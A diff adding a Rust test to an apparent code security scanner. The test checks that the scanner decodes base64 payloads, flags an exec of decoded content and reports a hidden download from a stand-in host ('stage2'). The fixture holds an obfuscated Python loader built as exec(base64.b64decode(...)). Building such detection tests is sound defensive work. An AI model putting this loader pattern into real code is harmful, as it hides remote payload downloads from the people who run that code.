@@ -144,3 +144,20 @@ fn impact_counts_events_import_time_work_and_heavy_imports() {
     assert_eq!(quiet.impact.computed, "low", "{:?}", quiet.impact);
     assert!(!quiet.findings.iter().any(|f| f.rule == "impact-understated"));
 }
+
+#[test]
+fn decoded_payloads_are_read_and_show_in_the_report() {
+    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuOS9zdGFnZTInKQo='))\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "loader.py", bytes: src.as_bytes() }]);
+    assert!(report.findings.iter().any(|f| f.rule == "exec-decoded"), "{:#?}", report.findings);
+    assert!(
+        report.capabilities.network.iter().any(|n| n.contains("203.0.113.9/stage2")),
+        "the hidden download shows: {:?}",
+        report.capabilities
+    );
+    assert!(
+        report.findings.iter().any(|f| f.file == "loader.py:2 (decoded)" && f.rule == "network"),
+        "{:#?}",
+        report.findings
+    );
+}
